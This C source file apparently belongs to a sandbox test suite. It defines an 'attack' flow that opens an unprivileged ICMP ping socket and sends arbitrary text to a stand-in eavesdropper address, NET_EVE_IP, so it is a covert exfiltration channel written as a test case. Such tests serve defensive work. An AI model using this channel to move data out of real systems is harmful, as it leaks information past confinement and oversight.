// SPDX-License-Identifier: GPL-3.0-or-later
/* A socket for pings, which needs no privilege. */
#include "flow-net.h"

/* Both ends are ping sockets: the answer that the kernel gives holds the question. */
static int make(void)
{
	net_fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
	return net_fd < 0 ? not_here("no ping sockets") : flow_give(net_fd);
}

static int put(void)
{
	char packet[256] = { 8 };
	struct net_addr a = net_at(NET_EVE_IP, 0);

	memcpy(packet + 8, flow.text, flow.len);
	return flow_result(
		sendto(flow.fd[0], packet, 8 + flow.len, 0, (struct sockaddr *)&a.at, a.len));
}

static int get(void)
{
	return flow_take(net_fd);
}

FLOW("attack: net_ping_socket; threat: #74; op: send; door: network", .make = make, .put = put,
     .get = get);
